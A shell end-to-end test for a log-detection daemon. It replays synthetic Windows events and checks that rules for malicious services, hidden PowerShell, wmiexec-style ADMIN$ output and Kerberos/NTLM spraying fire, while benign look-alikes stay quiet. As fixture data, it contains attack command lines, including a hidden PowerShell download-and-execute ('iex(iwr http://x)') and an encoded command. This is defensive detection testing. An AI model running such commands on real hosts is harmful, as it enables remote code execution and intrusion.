# The Windows and AD attack classes of the shipped rules on events
# written here, each in NXLog's flat shape and Winlogbeat's nested one:
# services whose image is a shell or a binary from a writable place
# (1000011), services.exe or WMI starting hidden PowerShell (1000015),
# command output sent to an administrative share (1000016),
# Kerberos and NTLM account enumeration (3000033) and a fast spray
# (3000031) from one source within seconds; and the benign look-alikes
# of each, which stay quiet.
. "$TOP/tests/e2e-lib.sh"
command -v jq > /dev/null || fail "jq is needed"
confdir
echo "aggregate-window off" >> "$T/etc/detectd.conf"

# nx TIME ID HOST JSON-MEMBERS: an NXLog line; wb the same for Winlogbeat.
nx() {
	printf '{"EventTime":"%s","EventReceivedTime":"%s","Hostname":"%s","EventID":%s,"Channel":"%s",%s}\n' \
	    "$1" "$1" "$3" "$2" "$(chan "$2")" "$4"
}
wb() {
	printf '{"@timestamp":"%sZ","host":{"name":"%s"},"winlog":{"event_id":%s,"channel":"%s","computer_name":"%s","event_data":{%s}}}\n' \
	    "$(echo "$1" | tr ' ' T)" "$3" "$2" "$(chan "$2")" "$3" "$4"
}
chan() {
	case $1 in
	7045) echo System ;;
	1) echo Microsoft-Windows-Sysmon/Operational ;;
	*) echo Security ;;
	esac
}
# svc SHAPE TIME HOST NAME IMAGE (JSON-escaped)
svc() {
	$1 "$2" 7045 "$3" "\"ServiceName\":\"$4\",\"ImagePath\":\"$5\",\"ServiceType\":\"user mode service\",\"StartType\":\"demand start\",\"AccountName\":\"LocalSystem\""
}
# proc SHAPE TIME HOST PARENT IMAGE CMDLINE (JSON-escaped)
proc() {
	$1 "$2" 1 "$3" "\"ParentImage\":\"$4\",\"Image\":\"$5\",\"CommandLine\":\"$6\",\"User\":\"NT AUTHORITY\\\\SYSTEM\""
}
# auth SHAPE TIME ID USER STATUS IP: a failed authentication at dc1.
auth() {
	case $3 in
	4776) $1 "$2" 4776 dc1.corp.example "\"TargetUserName\":\"$4\",\"Workstation\":\"$6\",\"Status\":\"$5\",\"PackageName\":\"MICROSOFT_AUTHENTICATION_PACKAGE_V1_0\"" ;;
	4625) $1 "$2" 4625 dc1.corp.example "\"TargetUserName\":\"$4\",\"WorkstationName\":\"-\",\"IpAddress\":\"$6\",\"IpPort\":\"50123\",\"Status\":\"0xc000006d\",\"SubStatus\":\"$5\",\"LogonType\":\"3\"" ;;
	*) $1 "$2" "$3" dc1.corp.example "\"TargetUserName\":\"$4\",\"TargetDomainName\":\"CORP\",\"IpAddress\":\"::ffff:$6\",\"IpPort\":\"49822\",\"Status\":\"$5\",\"PreAuthType\":\"-\"" ;;
	esac
}
CMD='C:\\Windows\\System32\\cmd.exe'
PS='C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
SV='C:\\Windows\\System32\\services.exe'
WM='C:\\Windows\\System32\\wbem\\WmiPrvSE.exe'
for shape in nx wb; do
	f="$T/$shape.json"
	# Class (a), firing: bare, quoted, environment variable, writable path.
	svc $shape "2026-03-10 09:00:01" ws1.corp.example BTOBTO 'cmd.exe /c whoami > C:\\Windows\\Temp\\o.txt' > "$f"
	svc $shape "2026-03-10 09:00:02" ws2.corp.example upd '\"C:\\Windows\\System32\\cmd.exe\" /c start x' >> "$f"
	svc $shape "2026-03-10 09:00:03" ws3.corp.example XyZ '%COMSPEC% /b /c start /b /min powershell -nop -w hidden -c x' >> "$f"
	svc $shape "2026-03-10 09:00:04" ws4.corp.example kXbq '%SystemRoot%\\kXbqLZhm.exe' >> "$f"
	svc $shape "2026-03-10 09:00:05" ws5.corp.example agent '\"C:\\Users\\bob\\AppData\\Local\\Temp\\svc.exe\" -k' >> "$f"
	# Class (a), quiet: svchost, Program Files, a driver.
	svc $shape "2026-03-10 09:00:06" ws6.corp.example Sched '%SystemRoot%\\system32\\svchost.exe -k netsvcs -p' >> "$f"
	svc $shape "2026-03-10 09:00:07" ws6.corp.example MozillaMaintenance '\"C:\\Program Files\\Mozilla Maintenance Service\\maintenanceservice.exe\"' >> "$f"
	svc $shape "2026-03-10 09:00:08" ws6.corp.example vboxsf '\\SystemRoot\\System32\\drivers\\vboxsf.sys' >> "$f"
	# Class (b), firing: SCM -> cmd -> hidden PowerShell; WMI -> encoded.
	proc $shape "2026-03-10 09:01:01" ws7.corp.example "$SV" "$CMD" 'C:\\Windows\\system32\\cmd.exe /b /c start /b /min powershell.exe -nop -w hidden -noni -c \"iex(iwr http://x)\"' >> "$f"
	proc $shape "2026-03-10 09:01:02" ws8.corp.example "$WM" "$PS" 'powershell.exe -NoP -NonI -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA' >> "$f"
	# wmiexec: a plain command whose output goes to ADMIN$.
	proc $shape "2026-03-10 09:01:05" ws9.corp.example "$WM" "$CMD" 'cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1700000000.51 2>&1' >> "$f"
	# Class (b), quiet: the same under a user's shell, and a visible one.
	proc $shape "2026-03-10 09:01:03" ws6.corp.example "$CMD" "$PS" 'powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA' >> "$f"
	proc $shape "2026-03-10 09:01:04" ws6.corp.example "$WM" "$PS" 'powershell.exe -NoProfile -Command Get-Service' >> "$f"
	# Class (c), firing: 10.9.0.66 asks for four names that do not exist
	# and two that do with wrong passwords, within a second; WS-SPRAY
	# sprays five accounts over NTLM in two seconds, 10.9.0.67 five
	# over 4625 in ten.
	for u in admin administrator backup svc_sql; do
		auth $shape "2026-03-10 09:02:00.1" 4768 $u 0x6 10.9.0.66
	done >> "$f"
	auth $shape "2026-03-10 09:02:00.3" 4771 alice 0x18 10.9.0.66 >> "$f"
	auth $shape "2026-03-10 09:02:00.4" 4771 bob 0x18 10.9.0.66 >> "$f"
	for u in carol dave erin frank grace; do
		auth $shape "2026-03-10 09:02:02" 4776 $u 0xC000006A WS-SPRAY
	done >> "$f"
	for i in 1 3 5 7 9; do
		auth $shape "2026-03-10 09:02:1$i" 4625 user$i 0xc000006a 10.9.0.67
	done >> "$f"
	# Class (c), quiet: a user who mistypes her password four times and
	# her name twice; a service retrying one stale name; a machine
	# account; four wrong passwords from one source.
	for i in 1 2 3 4; do
		auth $shape "2026-03-10 09:03:0$i" 4771 heidi 0x18 10.9.0.70
	done >> "$f"
	auth $shape "2026-03-10 09:03:05" 4768 hiedi 0x6 10.9.0.70 >> "$f"
	auth $shape "2026-03-10 09:03:06" 4768 heid 0x6 10.9.0.70 >> "$f"
	for i in 1 2 3 4 5 6; do
		auth $shape "2026-03-10 09:04:0$i" 4776 svc_old 0xC0000064 APP01
	done >> "$f"
	for u in 'WS9$' 'WS10$' 'WS11$'; do
		auth $shape "2026-03-10 09:04:30" 4768 "$u" 0x6 10.9.0.71
	done >> "$f"
	for u in ivan judy mallory oscar; do
		auth $shape "2026-03-10 09:05:00" 4771 $u 0x18 10.9.0.72
	done >> "$f"

	rm -f "$T/alerts.json"
	"$D" -f "$T/etc/detectd.conf" -o "$T/alerts.json" -r "windows:$f" \
	    2> "$T/log" || { cat "$T/log"; fail "$shape: replay"; }
	grep -q ", 0 parse errors" "$T/log" || { cat "$T/log"; fail "$shape: parse errors"; }
	validate "$T/alerts.json"
	jq -r '[.rule.id, .incident.endpoint.key] | @tsv' \
	    "$T/alerts.json" | sort > "$T/got"
	cat > "$T/want" <<'WANT'
1000011	ws1
1000011	ws2
1000011	ws3
1000011	ws4
1000011	ws5
1000015	ws7
1000015	ws8
1000016	ws9
3000031	10.9.0.66
3000031	10.9.0.67
3000031	ws-spray
3000033	10.9.0.66
WANT
	diff "$T/want" "$T/got" || { jq -c '[.rule.id, .incident.endpoint, .incident.reason]' "$T/alerts.json"; fail "$shape: alerts differ"; }
	echo "$shape: $(wc -l < "$T/got") alerts as expected"
done
exit 0
